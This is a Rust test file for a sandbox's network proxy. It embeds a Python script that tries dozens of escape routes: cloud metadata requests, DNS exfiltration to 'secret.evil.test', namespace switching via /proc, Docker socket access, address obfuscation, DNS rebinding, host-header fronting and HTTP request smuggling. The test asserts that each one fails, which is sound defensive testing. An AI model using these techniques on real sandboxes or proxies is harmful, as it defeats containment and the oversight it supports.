//! Escapes: each way round the door that a hostile program inside could try, as a row with its kind and its code.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpListener, UdpSocket},
    os::{
        linux::net::SocketAddrExt,
        unix::net::{self, UnixListener},
    },
    process::{Command, Stdio},
    sync::{Arc, Mutex},
    thread,
};

use serde_json::json;

use crate::client::{Namespaces, Sandbox};

/// What the rows use. A way leads somewhere if its last expression is true.
const TOOLS: &str = r#"
import ctypes, os, socket, ssl, struct, subprocess, sys, time
port, outside, names = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
libc = ctypes.CDLL(None, use_errno=True)
def tcp(family, address, said=b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"):
    it = socket.socket(family, socket.SOCK_STREAM); it.settimeout(3); it.connect(address)
    it.sendall(said); return b"REACHED" in it.recv(999)
def udp(family, address, data=b"x"):
    it = socket.socket(family, socket.SOCK_DGRAM); it.settimeout(1); it.sendto(data, address); return it.recv(99)
def query(name, kind=1):
    labels = b"".join(bytes([len(it)]) + it.encode() for it in name.split("."))
    return b"\0\1\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)
def answers(name, kind=1):
    return struct.unpack(">H", udp(socket.AF_INET, ("127.0.0.1", 53), query(name, kind))[6:8])[0]
def door(*said):
    it = socket.create_connection(("127.0.0.1", 10053), 3); it.settimeout(3); got = b""
    for one in said:
        it.sendall(one)
        try: got += it.recv(999)
        except OSError: break
    return got.count(b"REACHED")
def connect(host, then=b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"):
    return door(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), then)
def get(url, host): return door(f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
def hello(name):
    it = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); it.check_hostname = False; it.verify_mode = ssl.CERT_NONE
    inward, out = ssl.MemoryBIO(), ssl.MemoryBIO(); one = it.wrap_bio(inward, out, server_hostname=name)
    try: one.do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def socks(kind, host, to=None):
    order = b"\5\1\0" + bytes([kind]) + host + struct.pack(">H", to or port)
    return door(b"\5\1\0", order, b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
def stolen(address, kind=socket.SOCK_STREAM):
    it = socket.socket(socket.AF_INET, kind); it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); it.bind(address); return True
def namespace(path): return libc.setns(os.open(path, os.O_RDONLY), 0x40000000) == 0
def pair():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); one.connect("/run/docker.sock"); return True
def run(*line): return subprocess.run(line, capture_output=True, timeout=20).stdout
"#;

/// The kind of a way, and the way.
const WAYS: &[(&str, &str)] = &[
    ("direct", r#"tcp(socket.AF_INET, ("127.0.0.1", port))"#),
    ("direct", r#"tcp(socket.AF_INET, ("127.0.0.2", port))"#),
    ("direct", r#"tcp(socket.AF_INET, ("0.0.0.0", port))"#),
    ("direct", r#"tcp(socket.AF_INET, (outside, port))"#),
    ("direct", r#"tcp(socket.AF_INET, ("198.18.1.200", port))"#),
    ("direct", r#"tcp(socket.AF_INET, ("10.0.0.1", port))"#),
    ("metadata", r#"tcp(socket.AF_INET, ("169.254.169.254", 80))"#),
    ("metadata", r#"connect("169.254.169.254:80")"#),
    ("version 6", r#"tcp(socket.AF_INET6, ("::1", port))"#),
    ("version 6", r#"tcp(socket.AF_INET6, ("::ffff:127.0.0.1", port))"#),
    ("version 6", r#"tcp(socket.AF_INET6, ("::", port))"#),
    ("version 6", r#"tcp(socket.AF_INET6, ("fe80::1", port, 0, 1))"#),
    ("version 6", r#"connect(f"[::1]:{port}")"#),
    ("version 6", r#"connect(f"[::ffff:127.0.0.1]:{port}")"#),
    ("names", r#"udp(socket.AF_INET, ("8.8.8.8", 53), query("secret.evil.test"))"#),
    ("names", r#"udp(socket.AF_INET, (outside, names), query("secret.evil.test"))"#),
    ("names", r#"udp(socket.AF_INET, ("127.0.0.1", names), query("secret.evil.test"))"#),
    // The resolver answers by itself, and with nothing that a name could carry back.
    ("names", r#"answers("secret.evil.test", 16)"#),
    ("names", r#"answers("secret.evil.test", 15)"#),
    ("names", r#"answers("secret.evil.test", 28)"#),
    ("names", r#"[answers(f"{it:063x}.evil.test") for it in range(9)] and False"#),
    ("raw", "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"),
    ("raw", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b'x', (outside, 0))"),
    ("raw", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)"),
    ("raw", "socket.socket(40, socket.SOCK_STREAM)"),
    ("raw", "socket.socket(31, socket.SOCK_STREAM, 3)"),
    ("sockets", r#"socket.socket(socket.AF_UNIX).connect("\0castor-door-test") is None"#),
    ("sockets", r#"socket.socket(socket.AF_UNIX).connect("/run/docker.sock") is None"#),
    ("sockets", "pair()"),
    ("/proc", r#"namespace("/proc/1/ns/net") and tcp(socket.AF_INET, ("127.0.0.1", port))"#),
    ("/proc", r#"namespace(f"/proc/{os.getppid()}/ns/net") and tcp(socket.AF_INET, ("127.0.0.1", port))"#),
    ("/proc", r#"[os.readlink("/proc/1/fd/" + it) for it in os.listdir("/proc/1/fd")]"#),
    ("/proc", r#"open("/proc/1/mem", "rb").read(1)"#),
    ("/proc", r#"os.listdir("/proc/1/root")"#),
    ("/proc", r#"open("/proc/sys/net/ipv4/ip_forward", "w").write("1")"#),
    ("rights", "libc.unshare(0x40000000) == 0"),
    ("rights", "libc.ptrace(16, 1, 0, 0) == 0"),
    ("the door's place", r#"stolen(("127.0.0.1", 10053))"#),
    ("the door's place", r#"stolen(("0.0.0.0", 10053))"#),
    ("the door's place", r#"stolen(("0.0.0.0", 443))"#),
    ("the door's place", r#"stolen(("198.18.1.0", 80))"#),
    ("the door's place", r#"stolen(("127.0.0.1", 53), socket.SOCK_DGRAM)"#),
    ("addresses", r#"connect(f"127.0.0.1:{port}")"#),
    ("addresses", r#"connect(f"localhost:{port}")"#),
    ("addresses", r#"connect(f"x.localhost:{port}")"#),
    ("addresses", r#"connect(f"2130706433:{port}")"#),
    ("addresses", r#"connect(f"0x7f.1:{port}")"#),
    ("addresses", r#"connect(f"0177.0.0.1:{port}")"#),
    ("addresses", r#"connect(f"0:{port}")"#),
    ("addresses", r#"connect(f"{outside}:{port}")"#),
    ("addresses", r#"socks(1, socket.inet_aton("127.0.0.1"))"#),
    ("addresses", r#"socks(4, socket.inet_pton(socket.AF_INET6, "::1"))"#),
    ("addresses", r#"socks(3, bytes([10]) + b"2130706433")"#),
    ("private", r#"connect("private.test:80")"#),
    ("rebinding", r#"connect("rebound.test:80")"#),
    ("rebinding", r#"get("http://rebound.test/", "rebound.test")"#),
    ("rebinding", r#"socks(3, b"\x0crebound.test", 80)"#),
    ("names of hosts", r#"connect("b.test:80")"#),
    ("names of hosts", r#"connect("closed.test:80")"#),
    ("names of hosts", r#"connect("a.test.b.test:80")"#),
    ("names of hosts", r#"connect("a.test@b.test:80")"#),
    ("names of hosts", r#"connect("b.test:80#a.test:80")"#),
    ("names of hosts", r#"connect("a.test%00b.test:80")"#),
    ("names of hosts", r#"connect("a.test:81")"#),
    ("fronting", r#"connect("a.test:80", b"GET / HTTP/1.1\r\nHost: b.test\r\n\r\n")"#),
    ("fronting", r#"connect("a.test:80", b"GET / HTTP/1.1\r\nHost: a.test, b.test\r\n\r\n")"#),
    ("fronting", r#"connect("a.test:80", b"GET / HTTP/1.1\r\nHost: a.test\r\nHost: b.test\r\n\r\n")"#),
    ("fronting", r#"connect("a.test:80", b"GET http://b.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n")"#),
    ("fronting", r#"connect("a.test:443", hello("b.test"))"#),
    ("fronting", r#"connect("a.test:443", hello(None))"#),
    ("fronting", r#"connect("a.test:443")"#),
    ("fronting", r#"get("http://a.test/", "b.test")"#),
    ("fronting", r#"get("http://a.test/", "a.test\r\nHost: b.test")"#),
    (
        "smuggling",
        r#"door(b"POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")"#,
    ),
    (
        "smuggling",
        r#"door(b"POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n3;x\r\nabc\r\n0\r\n\r\n")"#,
    ),
    ("smuggling", r#"door(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")"#),
    // One request of a connection is let through, and nothing behind it: it counts for itself.
    (
        "a kept connection",
        r#"connect("a.test:80", b"GET /kept HTTP/1.1\r\nHost: a.test\r\n\r\nGET /hidden HTTP/1.1\r\nHost: b.test\r\n\r\n") > 1"#,
    ),
    (
        "a kept connection",
        r#"door(b"GET http://a.test/kept HTTP/1.1\r\nHost: a.test\r\nConnection: keep-alive\r\n\r\n", b"GET http://b.test/hidden HTTP/1.1\r\nHost: b.test\r\n\r\n") > 1"#,
    ),
    ("redirect", r#"b"REACHED" in run("curl", "-sL", "http://a.test/redirect")"#),
    (
        "another's token",
        r#"door(b"GET http://b.test/ HTTP/1.1\r\nHost: b.test\r\nProxy-Authorization: Basic Y2FzdG9yOmNhc3Rvcg==\r\n\r\n")"#,
    ),
    (
        "another's token",
        r#"tcp(socket.AF_INET, (outside, 10053), b"GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n")"#,
    ),
    ("programs", r#"b"REACHED" in run("curl", "-s", "--noproxy", "*", f"http://127.0.0.1:{port}/")"#),
    (
        "programs",
        r#"b"REACHED" in run("curl", "-s", "--resolve", f"a.test:{port}:127.0.0.1", f"http://a.test:{port}/")"#,
    ),
    ("programs", r#"b"REACHED" in run("curl", "-s", "-H", "Host: b.test", "http://a.test/")"#),
];

/// A way that is open, so that the others are not shut by chance.
const OPEN: &str = r#"print("open", get("http://a.test/open", "a.test"))"#;

/// What was asked of a web server and of a name server of this machine.
struct Outside {
    web: SocketAddr,
    names: SocketAddr,
    heads: Arc<Mutex<Vec<String>>>,
    queries: Arc<Mutex<usize>>,
}

impl Outside {
    fn start() -> Self {
        let (listener, socket) = (TcpListener::bind("127.0.0.1:0").unwrap(), UdpSocket::bind("0.0.0.0:0").unwrap());
        let (web, names) = (listener.local_addr().unwrap(), socket.local_addr().unwrap());
        let (heads, queries) = (Arc::<Mutex<Vec<String>>>::default(), Arc::<Mutex<usize>>::default());
        let (known, count) = (heads.clone(), queries.clone());
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut head = vec![0; 4096];
                let n = stream.read(&mut head).unwrap_or(0);
                let head = String::from_utf8_lossy(&head[..n]).into_owned();
                let (status, more) = match head.contains("/redirect") {
                    true => ("302 Found", "Location: http://b.test/hidden\r\nContent-Length: 0"),
                    false => ("200 OK", "Content-Length: 7"),
                };
                let body = if more.ends_with('7') { "REACHED" } else { "" };
                _ = stream
                    .write_all(format!("HTTP/1.1 {status}\r\n{more}\r\nConnection: close\r\n\r\n{body}").as_bytes());
                known.lock().unwrap().push(head);
            }
        });
        thread::spawn(move || {
            let mut query = [0; 999];
            while let Ok((_, from)) = socket.recv_from(&mut query) {
                *count.lock().unwrap() += 1;
                _ = socket.send_to(&query, from);
            }
        });
        Self { web, names, heads, queries }
    }
}

fn script() -> String {
    let ways: Vec<String> = WAYS.iter().map(|(kind, way)| serde_json::to_string(&[kind, way]).unwrap()).collect();
    let tries = "for kind, way in ways:\n    try: got = eval(way)\n    except Exception: continue\n    \
                 if got: print(\"ESCAPED\", kind, way, got)\n";
    format!("{TOOLS}\nways = [{}]\n{tries}{OPEN}\n", ways.join(",\n"))
}

#[test]
fn no_way_leads_round_the_door() {
    let kinds: std::collections::BTreeSet<&str> = WAYS.iter().map(|it| it.0).collect();
    assert!(WAYS.len() >= 40 && kinds.len() >= 12, "{} ways of {} kinds", WAYS.len(), kinds.len());
    for namespaces in Namespaces::all().filter(|it| *it != Namespaces::Nobody) {
        try_all(namespaces);
    }
}

fn try_all(namespaces: Namespaces) {
    let there = Outside::start();
    let mut sandbox = Sandbox::new();
    sandbox.namespaces = namespaces;
    let own = Command::new("hostname").arg("-I").output().ok();
    let own = own.and_then(|it| Some(String::from_utf8(it.stdout).ok()?.split_whitespace().next()?.to_owned()));
    let own = own.unwrap_or_else(|| "127.0.0.3".to_owned());
    sandbox.write("ws/hostile.py", &script());
    let allow = ["a.test:80", "a.test:443", "closed.test:80", "private.test:80", "rebound.test:80", "127.0.0.1:*"];
    let settings = json!({"security": {"network": {"allow": allow, "deny": ["closed.test"]}}});
    sandbox.write("home/.castor/settings.json", &settings.to_string());
    let servers = ["a.test:80", "a.test:443", "b.test:80", "closed.test:80"].map(|it| format!("{it}={}", there.web));
    let known = format!("{},private.test=10.0.0.1,rebound.test=127.0.0.1", servers.join(","));
    sandbox.env.push(("CASTOR_TEST_NETWORK".to_owned(), known));
    let name = net::SocketAddr::from_abstract_name("castor-door-test").unwrap();
    // Of another round it may still be there.
    let _listens = UnixListener::bind_addr(&name);
    let (port, names) = (there.web.port().to_string(), there.names.port().to_string());
    sandbox.args = ["exec", "--", "python3", "hostile.py", &port, &own, &names].map(Into::into).to_vec();
    let out = sandbox.command().stdin(Stdio::null()).output().unwrap();
    let (said, errors) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert_eq!(said, "open 1\n", "{errors}");
    // What came out is what was open, and nothing hid in it.
    let heads = there.heads.lock().unwrap().join("");
    assert_eq!((heads.matches("/hidden").count(), heads.matches("b.test").count()), (0, 0), "{heads}");
    assert!(heads.contains("GET /open") && heads.contains("GET /redirect"), "{heads}");
    assert_eq!(*there.queries.lock().unwrap(), 0, "names that were asked about outside");
}
